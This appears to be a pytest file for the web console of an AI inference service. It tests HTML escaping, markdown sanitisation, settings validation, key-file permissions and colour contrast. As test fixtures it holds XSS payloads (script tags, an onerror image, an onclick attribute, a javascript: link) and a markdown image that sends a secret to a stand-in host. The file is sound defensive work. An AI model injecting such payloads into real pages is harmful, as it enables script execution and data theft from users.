"""Parts of pages that need no browser: markup escapes what it shows, settings refuse what cannot be."""

import re
import stat

import pytest

from aigrid.console import chat_key, home, keys, records, theme
from aigrid.console.charts import curve
from aigrid.console.chat import Answer, receipt
from aigrid.console.gateway import GatewayRefused
from aigrid.console.prose import prose
from aigrid.console.settings import ConsoleSettings
from aigrid.core.errors import ConfigError

EVIL = "<script>alert(1)</script>"
SUM = {
    "name": EVIL,
    "requests": 2,
    "tokens": 30,
    "completion_tokens": 20,
    "mj_per_token": 5.0,
    "revenue_nusd": 9000,
    "cost_nusd": 100,
    "margin_nusd": 8900,
    "energy_mj": 150,
}
RECORD = {
    "id": "req_1",
    "tenant": EVIL,
    "key_id": EVIL,
    "model": EVIL,
    "site": EVIL,
    "tier": "fast",
    "outcome": "finished",
    "note": '"' + EVIL,
    "prompt_tokens": 10,
    "completion_tokens": 21,
    "upstream_nusd": 0,
    "energy_nusd": 63,
    "hardware_nusd": 529,
    "revenue_nusd": 3250,
    "energy_mj": 1525,
    "energy_source": "estimate",
    "first_token_ns": 100_000_000,
    "duration_ns": 1_100_000_000,
    "settled_ns": 1_795_403_882_956_243_279,
}


def key(**changes):
    used = {f"{span}_{unit}": 5 for span in ("day", "month", "total") for unit in ("nusd", "tokens", "requests")}
    made = {"id": EVIL, "tenant": EVIL, "name": EVIL, "hint": EVIL, "scope": "inference", "created_ns": 1}
    return made | {"revoked_ns": None, "limits": {}, "used": used} | changes


@pytest.mark.parametrize(
    "markup",
    [
        records.records_table([RECORD], {EVIL: EVIL}, 0),
        home.users({"groups": {"tenant": [SUM]}, "totals": SUM, "left_off": {"tenant": 0}}, "tenant", EVIL, EVIL),
        keys.key_view(key()),
        keys.tenant_view(key()),
        keys.audit_view([{"at_ns": 1, "actor": EVIL, "address": EVIL, "act": EVIL, "detail": EVIL}]),
        theme.empty(EVIL, EVIL),
        receipt(Answer(), RECORD | {"energy_source": EVIL}),
    ],
)
def test_what_others_wrote_is_never_markup(markup):
    assert "<script" not in markup
    assert "&lt;script&gt;" in markup


def test_a_limit_shows_how_much_of_it_is_used():
    shown = keys.use_view(key(limits={"total_nusd": 10, "concurrency": 4}))
    assert "50\xa0% used total" in shown
    assert "4 at once" in shown
    assert shown.count('class="meter') == 1
    assert "meter full" in keys.use_view(key(limits={"day_nusd": 5}))


def test_a_receipt_counts_the_pace_after_the_first_token():
    said = Answer()
    said.take({"request_id": "req_1"})
    said.take({"choices": [{"delta": {"content": "a"}, "finish_reason": None}]})
    said.take({"choices": [{"delta": {}, "finish_reason": "length"}]})
    shown = receipt(said, RECORD).replace("\xa0", " ")
    assert said.text == "a"
    for part in ("$0.0000033", "1.52 J", "estimated", "<b>10</b> tokens in", "<b>21</b> out", "100 ms", "20.0 tok/s"):
        assert part in shown
    assert "cut at max tokens" in shown


def test_the_last_bucket_counts_by_the_time_that_has_passed():
    buckets = [{"start_ns": start, "prompt_tokens": 60, "completion_tokens": 60} for start in (0, 600 * 10**9)]
    assert curve(buckets, 600 * 10**9, 800 * 10**9) == [(0, 720), (600_000, 2160), (800_000, 2160)]
    assert curve(buckets, 600 * 10**9, 650 * 10**9) == [(0, 720), (650_000, 720)]
    assert curve([], 600 * 10**9, 650 * 10**9) == []


def summary(**changes):
    window = {"tokens_per_hour": 0, "idle_nusd": 0, "net_nusd": 0, **dict.fromkeys(SUM, 0), "mj_per_token": None}
    windows = dict.fromkeys(("minute", "hour", "day"), window)
    return {"windows": windows, "energy_source": "", "engines": [], "running": 0, "waiting": 0} | changes


def test_an_empty_factory_says_what_to_do_next():
    assert "aigrid up" in home.engines(summary())
    assert "nothing sold yet" in home.strip(summary())
    none = {"groups": {"tenant": []}, "totals": {"tokens": 0}, "left_off": {"tenant": 0}}
    assert 'href="/chat"' in home.users(none, "tenant", "Tenants", "Nobody yet")


@pytest.mark.parametrize(
    ("changes", "param"),
    [
        ({"gateway_url": "127.0.0.1:8470"}, "gateway"),
        ({"gateway_url": "ftp://host"}, "gateway"),
        ({"port": 0}, "port"),
        ({"port": 70_000}, "port"),
        ({"tls_cert": "cert.pem"}, "tls-cert"),
    ],
)
def test_settings_that_cannot_be_are_refused(changes, param):
    with pytest.raises(ConfigError) as raised:
        ConsoleSettings(**{"gateway_url": "http://127.0.0.1:8470"} | changes)
    assert raised.value.param == param


class Keymaker:
    def __init__(self):
        self.made = 0

    async def post(self, path, body):
        assert (path, body) == ("/admin/keys", {"tenant": "console", "name": "console"})
        self.made += 1
        return {"key": f"secret-{self.made}"}


async def test_the_chat_key_is_made_once_and_only_its_owner_can_read_it():
    maker = Keymaker()
    assert await chat_key.chat_key(maker) == "secret-1"
    assert await chat_key.chat_key(maker) == "secret-1"
    assert stat.S_IMODE(chat_key.key_file().stat().st_mode) == 0o600
    assert await chat_key.chat_key(maker, refused="secret-1") == "secret-2"
    assert await chat_key.chat_key(maker, refused="secret-1") == "secret-2"
    assert maker.made == 2


async def test_a_key_that_cannot_be_made_leaves_nothing_behind():
    class Refuser:
        async def post(self, path, body):
            raise GatewayRefused(403, "no")

    with pytest.raises(GatewayRefused):
        await chat_key.chat_key(Refuser())
    assert list(chat_key.key_file().parent.glob("console*")) == []


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "![x](https://evil.example/?secret)",
        "<img src=x onerror=alert(1)>",
        "<b onclick='x'>",
        "[x](javascript:x)",
    ],
)
def test_an_answer_neither_runs_nor_fetches_anything(text):
    shown = prose(text)
    assert not any(bad in shown for bad in ("<script", "<img", "<b onclick", 'href="javascript'))


def test_an_answer_keeps_its_shape():
    shown = prose("# A\n\n- one\n- two\n\n```\nx < 1\n```\n")
    assert "<h1>A</h1>" in shown
    assert shown.count("<li>") == 2
    assert "x &lt; 1" in shown


def colours(block):
    return dict(re.findall(r"--([a-z-]+): (#[0-9a-fA-F]{6})", block))


def contrast(one, other):
    """Return the WCAG 2 contrast ratio of two colours."""
    lights = []
    for colour in (one, other):
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        lights.append(0.2126 * red + 0.7152 * green + 0.0722 * blue + 0.05)
    return max(lights) / min(lights)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_can_be_read(scheme):
    light, dark = theme.CSS.split("body.body--dark {", 1)
    found = colours(light) | (colours(dark.partition("}")[0]) if scheme == "dark" else {})
    pairs = [(text, ground) for text in ("ink", "muted") for ground in ("bg", "surface", "sunken")]
    pairs += [(text, ground) for text in ("accent", "energy", "bad") for ground in ("bg", "surface", f"{text}-soft")]
    pairs += [("on-accent", "accent"), ("surface", "bad"), ("ink", "accent-soft"), ("ink", "raised")]
    weak = {pair: contrast(found[pair[0]], found[pair[1]]) for pair in pairs}
    assert {pair: ratio for pair, ratio in weak.items() if ratio < 4.5} == {}
    for ground in ("surface", "bg"):
        assert contrast(found["line-strong"], found[ground]) >= 3, "borders of controls"


def test_the_look_needs_nobody_else():
    assert "http" not in theme.CSS
    assert "@import" not in theme.CSS
    assert "url(" not in theme.CSS
